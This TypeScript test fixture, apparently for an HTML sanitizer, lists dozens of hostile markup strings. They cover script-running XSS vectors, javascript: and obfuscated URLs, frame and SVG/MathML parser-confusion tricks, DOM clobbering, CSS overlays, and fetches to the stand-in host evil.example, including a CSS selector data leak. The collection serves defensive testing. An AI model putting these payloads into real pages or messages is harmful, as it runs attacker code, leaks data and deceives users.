const evil = 'https://evil.example';
const cover = 'position:fixed;inset:0;z-index:2147483647;background:red';

/** `ran(…)` tells the test (see witness.ts) that something ran. */
const running = [
  `<script>top.ran('script')</script>`,
  `<script src="${evil}/script.js"></script>`,
  `<script type="module">import('${evil}/module.js').catch(() => top.ran('module'))</script>`,
  `<script type="importmap">{"imports":{"react":"${evil}/react.js"}}</script>`,
  `<scr<script>ipt>ran('split tag')</scr</script>ipt>`,
  `<img src="/nothing" onerror="ran('image error')">`,
  `<img src=/nothing\tonerror\n=\nran('line_feeds')>`,
  `<img src="/nothing"onerror="ran('no space')"/>`,
  `<img/src="/nothing"/onerror=ran('slashes')>`,
  `<p onpointerover="ran('pointer')" onmouseover="ran('mouse')" style="font-size:90px">Point here</p>`,
  `<details open ontoggle="ran('toggle')"><summary>s</summary>d</details>`,
  `<input autofocus onfocus="ran('focus')"><select autofocus onfocus="ran('select')"></select>`,
  `<p tabindex="0" autofocus onfocusin="ran('focusin')">p</p>`,
  `<style>@keyframes go{}</style><p style="animation:go 1ms" onanimationstart="ran('animation')">p</p>`,
  `<p style="animation:reply-caret 1ms" onanimationend="ran('animation of the desk')">p</p>`,
  `<div style="content-visibility:auto" oncontentvisibilityautostatechange="ran('visibility')">d</div>`,
  `<video autoplay src="data:video/mp4,x" onerror="ran('video')"><source onerror="ran('source')"></video>`,
  `<body onload="ran('body')" onpageshow="ran('page')" onhashchange="ran('hash')">b`,
  `<marquee onstart="ran('marquee')" loop="1">m</marquee>`,
  `<div popover id="pop" onbeforetoggle="ran('popover')">p</div><button popovertarget="pop">b</button>`,
  `<form onformdata="ran('form')" action="javascript:ran('action')"><button>b</button></form>`,
  `<button form="f" formaction="javascript:ran('formaction')">b</button><form id="f"></form>`,
];

const addresses = [
  `<a href="javascript:ran('link')">a</a>`,
  `<a href="JaVa&Tab;Scr&NewLine;ipt&colon;ran('entities')">a</a>`,
  `<a href="\u0001javascript:ran('control')">a</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran('no semicolons')">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=">a</a>`,
  `<a href="vbscript:ran(1)">a</a><a href="blob:${evil}/b">a</a><a href="filesystem:${evil}/f">a</a>`,
  `<a href="view-source:javascript:ran(1)">a</a><a href="livescript:ran(1)">a</a><a href="file:///etc/passwd">a</a>`,
  `<a href="ms-msdt:/id x">a</a><a href="onenote:x">a</a><a href="one\nnote:x">a</a>`,
  `<map name="m"><area shape="rect" coords="0,0,999,999" href="javascript:ran('area')"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" width="200" height="200">`,
  `<img src="javascript:ran('image')"><img srcset="javascript:ran('set') 1x"><table background="javascript:ran('table')"><tr><td>t</td></tr></table>`,
  `<blockquote cite="javascript:ran('cite')">q</blockquote><a ping="${evil}/ping" href="#x">a</a>`,
];

const frames = [
  `<iframe src="javascript:top.ran('frame')"></iframe>`,
  `<iframe srcdoc="&lt;script>top.ran('srcdoc')&lt;/script>"></iframe>`,
  `<iframe src="data:text/html,<script>top.ran('data frame')</script>"></iframe>`,
  `<iframe src="${evil}/frame" style="${cover}"></iframe>`,
  `<object data="${evil}/object.html"></object><embed src="${evil}/embed.swf"><applet code="${evil}/a.class"></applet>`,
  `<object data="data:text/html,<script>top.ran('object')</script>" type="text/html"></object>`,
  `<frameset onload="ran('frameset')"><frame src="${evil}/inner"></frameset>`,
  `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
  `<template shadowrootmode="open"><script>top.ran('shadow')</script><style>:host{${cover}}</style></template>`,
];

const otherLanguages = [
  `<svg onload="ran('svg')"><script>top.ran('svg script')</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='u' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran(1)'/></svg>#u"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:ran('animate')"/><text y="20">t</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="ran('set')"/><image href="${evil}/svg.png"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script>top.ran('foreign')&lt;/script>"></iframe></foreignObject></svg>`,
  `<svg><style>*{${cover}}</style><desc><p title="</desc></svg><img src=/nothing onerror=ran('desc')>"></desc></svg>`,
  `<svg><![CDATA[><img src="/nothing" onerror="ran('cdata')">]]></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/nothing onerror=ran('glyph')&gt;">`,
  `<math href="javascript:ran('math')"><mi>x</mi></math><math><annotation-xml encoding="text/html"><img src="/nothing" onerror="ran('annotation')"></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=/nothing onerror=ran('noscript')>"></noscript>`,
  `<style><p title="</style><img src=/nothing onerror=ran('style')>"></style>`,
  `<textarea><p title="</textarea><img src=/nothing onerror=ran('textarea')>"></textarea>`,
  `<xmp><p title="</xmp><img src=/nothing onerror=ran('xmp')>"></xmp>`,
  `<select><option><style></option></select><img src="/nothing" onerror="ran('select')"></style></select>`,
  `<form><div></form><form><svg><style><img title="</style><img src=/nothing onerror=ran('forms')>"></form>`,
  `<!--><img src="/nothing" onerror="ran('comment')">--><!--[if gte mso 9]><script>ran('outlook')</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:ran('xml')"?><!doctype html [<!entity x "y">]><p>&x;</p>`,
  `<p title="<img src=/nothing onerror=ran('title')>">p</p><p title='\`><img src=/nothing onerror=ran(1)>'>p</p>`,
  `<a title="x"\u00a0onclick="ran('nbsp')" href="#y"onmouseup="ran('glued')">a</a>`,
  `${'<div>'.repeat(500)}<img src="/nothing" onerror="ran('deep')">`,
];

const clobbering = [
  `<p id="root">p</p><a id="location" name="location" href="#z">a</a><img name="getElementById" id="createElement">`,
  `<form id="root" name="body"><input name="attributes"><input name="childNodes"><input id="nodeName"></form>`,
  `<a id="countersign"></a><a id="countersign" name="x" href="javascript:ran('clobbered')"></a>`,
  `<p slot="x" is="y-z" part="p" exportparts="p" nonce="n" contenteditable data-block="container" data-held-src="${evil}/held.png">p</p>`,
  `<span data-pm-slice='0 0 ["textBlock",{"tag":"style"}]'>nav,header{display:none!important}body{background:red!important}</span>`,
  `<span data-pm-slice='0 0 ["textBlock",{"tag":"script"}]'>ran('slice')</span>`,
  `<b data-pm-slice='1 1 -1 ["container",{"tag":"iframe","attributes":"x"}]'>s</b>`,
];

const fetching = [
  `<img src="${evil}/a.png"><img srcset="${evil}/b.png 2x, ${evil}/c.png 3x"><img src="//evil.example/d.png">`,
  `<picture><source srcset="${evil}/e.png"><img src="${evil}/f.png"></picture><input type="image" src="${evil}/g.png">`,
  `<video poster="${evil}/h.png" src="${evil}/i.mp4"></video><audio src="${evil}/j.mp3" autoplay></audio><bgsound src="${evil}/k.wav">`,
  `<body background="${evil}/l.png"><table background="${evil}/m.png"><tr background="${evil}/n.png"><td background="${evil}/o.png">t</td></tr></table>`,
  `<link rel="stylesheet" href="${evil}/p.css"><link rel="preload" as="image" href="${evil}/q.png"><link rel="dns-prefetch" href="${evil}"><link rel="icon" href="${evil}/r.ico">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/base/" target="_top"><img src="relative.png">`,
  `<p style="background:url(${evil}/s.png);list-style:url('${evil}/t.png');cursor:url(${evil}/u.cur),auto">p</p>`,
  `<p style="background:u\\72 l(${evil}/v.png);background:image-set('${evil}/w.png' 1x);border-image:url(${evil}/x.png) 1">p</p>`,
  `<p style="--x:'${evil}/y.png';background:image-set(var(--x) 1x);mask:url(${evil}/z.svg#m);filter:url(${evil}/f.svg#f)">p</p>`,
  `<p style="content:url(${evil}/1.png);shape-outside:url(${evil}/2.png);-webkit-mask-image:-webkit-cross-fade(url(${evil}/3.png),url(${evil}/4.png),50%)">p</p>`,
  `<style>@import '${evil}/5.css';@import url(${evil}/6.css);@font-face{font-family:Inter;src:url(${evil}/7.woff2)}p{background:url(${evil}/8.png)}</style>`,
  `<style>p::before{content:url(${evil}/9.png)}a:visited{background:url(${evil}/10.png)}input[value^=a]{background:url(${evil}/11.png)}</style>`,
];

const restyling = [
  `<style>body,nav,main,header,h1,button{display:none!important;color:red!important}</style>`,
  `<style>*{all:unset!important;animation:none!important}:root{--ink:red;--surface:red;--accent:red}</style>`,
  `<style>html{filter:invert(1)}@page{margin:0}@layer base{*{font-size:99px!important}}</style>`,
  `<style><!-- --></style><style media="all">@media all{@supports (color:red){nav{${cover}!important}}}</style>`,
  `<div style="${cover}">Covered</div>`,
  `<div style="position:absolute;top:-900px;left:-900px;width:9000px;height:9000px;background:red;z-index:99">Covered</div>`,
  `<div style="position:sticky;top:0;bottom:0;z-index:99;background:red">Sticky</div>`,
  `<div style="pos\\69tion:fi\\78 ed;top:0;left:0;width:100vw;height:100vh;background:red">Escaped</div>`,
  `<div style="position:/**/fixed;top:0;background:red">Commented</div><div style="POSITION:FIXED!important;top:0">Loud</div>`,
  `<div style="margin:-3000px 0 0 -3000px;width:9000px;height:200px;background:red">Pulled</div>`,
  `<div style="transform:translate(-600px,-500px) scale(9);background:red">Moved</div>`,
  `<div style="translate:-600px -500px;scale:9;zoom:9;rotate:45deg;outline:2000px solid red;box-shadow:0 0 0 3000px red">Grown</div>`,
  `<div style="width:99999px;height:99999px;overflow:visible">Large</div><p>${'W'.repeat(3000)}</p>`,
  `<dialog open style="${cover}">Dialog</dialog><div popover="manual" style="display:block;${cover}">Popover</div>`,
  `<div role="alert" aria-label="Send reply" accesskey="s" tabindex="1"><button aria-label="Send reply">Send</button></div>`,
  `<p style="view-transition-name:root;anchor-name:--a;position-anchor:--a;float:left;cursor:none">p</p>`,
  `<p dir="rtl">\u202e\u2066${'\u0300'.repeat(200)}\u202dreversed</p>`,
];

/** Markup and text that nobody should send: each tries one way, or a few of a kind, to run, fetch, hide or change something. */
export const attacks = [
  ...running,
  ...addresses,
  ...frames,
  ...otherLanguages,
  ...clobbering,
  ...fetching,
  ...restyling,
];
